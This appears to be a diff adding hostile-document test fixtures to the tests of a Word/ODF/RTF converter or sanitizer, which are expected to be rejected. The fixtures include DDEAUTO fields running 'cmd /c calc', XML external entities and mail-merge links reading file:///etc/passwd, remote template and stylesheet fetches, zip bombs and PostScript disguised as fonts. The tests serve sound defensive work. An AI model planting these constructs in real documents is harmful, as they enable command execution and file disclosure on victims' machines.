@@ -7,6 +7,7 @@ nothing, `OUTSIDE` for a folder in which nothing may appear.
 from __future__ import annotations
 
 import base64
+import gzip
 import io
 import stat
 import struct
@@ -184,6 +185,16 @@ def _embedding(data: bytes, kind: str = "package", name: str = "book.xlsx") -> P
         ("rId9", kind, f"embeddings/{name}", ""),
     )
     return made | {f"word/embeddings/{name}": data}
+
+
+_WEB = "http://schemas.microsoft.com/office/2011/relationships/webextension"
+
+
+def _called_a_face(data: bytes, kind: str = f"{MAIN[:46]}obfuscatedFont") -> Parts:
+    """A picture that is declared to be something that is not looked into."""
+    return shown("a.png", data) | {
+        "[Content_Types].xml": types(word__document_xml=MAIN, word__media__a_png=kind)
+    }
 
 
 _ALTERNATIVE = (
@@ -399,6 +410,90 @@ HOSTILE: dict[str, Callable[[], Parts]] = {
         "a.png", PNG[:16] + struct.pack(">2L", 60000, 60000) + PNG[24:]
     ),
     "a picture of an unknown kind": lambda: shown("a.png", b"what is this"),
+    # what comes by another door than the document's own
+    "a template of the settings": lambda: (
+        plain(
+            "",
+            ("rId9", "settings", "settings.xml", ""),
+            word__settings_xml=f'<w:settings xmlns:w="{_W}" xmlns:r="{_R}">'
+            '<w:attachedTemplate r:id="rId1"/></w:settings>'.encode(),
+        )
+        | {
+            "word/_rels/settings.xml.rels": relations(
+                ("rId1", "attachedTemplate", f"{URL}/t.dotm", "External")
+            )
+        }
+    ),
+    "a source of a mail merge": lambda: (
+        plain(
+            "",
+            ("rId9", "settings", "settings.xml", ""),
+            word__settings_xml=f'<w:settings xmlns:w="{_W}"/>'.encode(),
+        )
+        | {
+            "word/_rels/settings.xml.rels": relations(
+                ("rId1", "mailMergeSource", "file:///etc/passwd", "External")
+            )
+        }
+    ),
+    "an add-in of the web": lambda: (
+        plain()
+        | {
+            "_rels/.rels": relations(
+                ("rId1", "officeDocument", "word/document.xml", ""),
+                ("rId2", f"{_WEB}taskpanes", "word/webextensions/taskpanes.xml", ""),
+            ),
+            "word/webextensions/taskpanes.xml": b"<a/>",
+        }
+    ),
+    "data that fetch": lambda: (
+        plain()
+        | {
+            "customXml/item1.xml": f'<!DOCTYPE a [<!ENTITY % x SYSTEM "{URL}/x">%x;]><a/>'.encode(),
+            "customXml/_rels/item1.xml.rels": relations(),
+        }
+    ),
+    "a template with macros": lambda: _other_main(
+        "document.xml", "application/vnd.ms-word.template.macroEnabledTemplate.main+xml"
+    ),
+    "a bomb in a workbook": lambda: _embedding(
+        zipped(plain() | {"word/media/a.png": PNG + bytes(8 * 2**20)})
+    ),
+    "packages in packages": lambda: _embedding(
+        zipped(_embedding(zipped(_embedding(zipped(_embedding(zipped(plain())))))))
+    ),
+    "PostScript called a face": lambda: _called_a_face(EPS),
+    "an OLE object called settings of a printer": lambda: _called_a_face(
+        b"\0" + OLE,
+        "application/vnd.openxmlformats-officedocument.wordprocessingml.printerSettings",
+    ),
+    "PostScript in gzip": lambda: shown("a.wmz", gzip.compress(EPS, mtime=0)),
+    "an SVG with a style sheet": lambda: shown(
+        "a.svg", f'<?xml-stylesheet href="{URL}/s.css"?>{_SVG.format("<rect/>")}'.encode()
+    ),
+    "an SVG from somewhere else": lambda: shown(
+        "a.svg", _SVG.format(f'<use xml:base="{URL}/s.svg" xlink:href="#a"/>').encode()
+    ),
+    "an SVG whose style imports": lambda: shown(
+        "a.svg", _SVG.format(f"<style>@import '{URL}/s.css';</style>").encode()
+    ),
+    "a field in a footnote": lambda: plain(
+        "",
+        ("rId9", "footnotes", "footnotes.xml", ""),
+        word__footnotes_xml=f'<w:footnotes xmlns:w="{_W}"><w:footnote w:id="1">'
+        f"{field(' DDEAUTO cmd /c')}</w:footnote></w:footnotes>".encode(),
+    ),
+    "a field in a glossary": lambda: plain(
+        "",
+        ("rId9", "glossaryDocument", "glossary/document.xml", ""),
+        word__glossary__document_xml=f'<w:glossaryDocument xmlns:w="{_W}">'
+        f"{field(f' INCLUDETEXT {FETCHED}')}</w:glossaryDocument>".encode(),
+    ),
+    "a chunk in a header": lambda: plain(
+        "",
+        ("rId9", "header", "header1.xml", ""),
+        word__header1_xml=f'<w:hdr xmlns:w="{_W}" xmlns:r="{_R}"><w:altChunk r:id="a"/></w:hdr>'.encode(),
+    ),
 }
 
 # What looks like one of the above and is none: each must become a PDF.
@@ -470,6 +565,7 @@ def compound(*names: str, flags: int = 0, text: bytes = b"") -> bytes:
     return header.ljust(512, b"\0") + first.ljust(512, b"\0") + directory.ljust(1024, b"\0")
 
 
+_XLINK = "http://www.w3.org/1999/xlink"
 _ODF = "urn:oasis:names:tc:opendocument:xmlns"
 
 
@@ -535,6 +631,48 @@ OPEN_DOCUMENTS: dict[str, tuple[Parts, str]] = {
     "a library": (_odt("", Basic__Standard__a_xml=b"<a/>"), "มาโคร"),
     "PostScript": (_odt(_drawing("Pictures/a.png"), Pictures__a_png=EPS), "PostScript"),
     "a password": (_odt("") | {"META-INF/manifest.xml": b"<m><encryption-data/></m>"}, "รหัสผ่าน"),
+    "a template elsewhere": (
+        _odt(
+            "",
+            meta_xml=f'<m:template xmlns:m="{_ODF}:meta:1.0" xmlns:x="{_XLINK}" x:href="{URL}/t"/>'.encode(),
+        ),
+        "เชื่อมไปยังภายนอก",
+    ),
+    "a face elsewhere": (
+        _odt(
+            "",
+            f'<svg:font-face-uri xmlns:svg="{_ODF}:svg-compatible:1.0" xlink:href="{URL}/f.ttf"/>',
+        ),
+        "เชื่อมไปยังภายนอก",
+    ),
+    "a background elsewhere": (
+        _odt(
+            "",
+            styles_xml=f'<s:background-image xmlns:s="{_ODF}:style:1.0" xmlns:x="{_XLINK}" x:href="{URL}/b"/>'.encode(),
+        ),
+        "เชื่อมไปยังภายนอก",
+    ),
+    "a form that loads its data": (
+        _odt(
+            "",
+            f'<x:model xmlns:x="http://www.w3.org/2002/xforms"><x:instance src="{URL}/i"/></x:model>',
+        ),
+        "XForms",
+    ),
+    "a form's picture elsewhere": (
+        _odt(f'<f:image xmlns:f="{_ODF}:form:1.0" f:image-data="{URL}/p.png"/>'),
+        "เชื่อมไปยังภายนอก",
+    ),
+    "a database": (
+        _odt(f'<f:form xmlns:f="{_ODF}:form:1.0" f:datasource="{URL}/d.odb" f:command="x"/>'),
+        "เชื่อมไปยังภายนอก",
+    ),
+    "an entity": (
+        _odt("")
+        | {"styles.xml": b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'},
+        "DOCTYPE",
+    ),
+    "a dialog": (_odt("", Dialogs__Standard__d_xml=b"<a/>"), "มาโคร"),
     "a spreadsheet": (
         _odt("") | {"mimetype": b"application/vnd.oasis.opendocument.spreadsheet"},
         "ไม่ใช่ไฟล์ Word",
@@ -567,5 +705,15 @@ RICH_TEXTS: list[tuple[bytes, str]] = [
     (b"{\\pict\\macpict 00}", "macpict"),
     (b"{\\shp{\\*\\shpinst{\\sp{\\sn pibName}{\\sv http://x.invalid/a}}}}", "pibName"),
     (b"{\\subdocument1}", "subdocument"),
+    (b"{\\field{\\*\\fldinst DDEAUTO cmd /c calc}{\\fldrslt x}}", "DDEAUTO"),
+    (
+        b"{\\*\\background{\\shp{\\*\\shpinst{\\sp{\\sn fillBlip}{\\sv {\\pict\\pngblip "
+        + EPS.hex().encode()
+        + b"}}}}}}",
+        "PostScript",
+    ),
+    (b"{\\*\\mailmerge{\\*\\mmconnectstr DSN=x}}", "mailmerge"),
+    (b"{\\object\\objautlink\\objupdate{\\*\\objclass htmlfile}{\\*\\objdata 01}}", "object"),
+    (b"{\\footnote {\\field{\\*\\fldinst IMPORT x}{\\fldrslt x}}}", "IMPORT"),
     (b"{" * 400, "ใหญ่เกินกำหนด"),
 ]
